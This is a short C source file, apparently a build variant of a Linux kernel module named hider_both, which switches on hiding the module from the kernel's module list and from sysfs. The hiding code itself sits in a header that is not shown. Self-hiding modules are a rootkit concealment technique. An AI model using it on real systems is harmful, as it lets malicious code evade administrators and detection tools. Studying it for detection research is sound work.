// SPDX-License-Identifier: GPL-2.0
/* hider_both: hides from the list of modules and from sysfs. */
#define HIDER_LIST
#define HIDER_SYSFS
#include "hider.h"
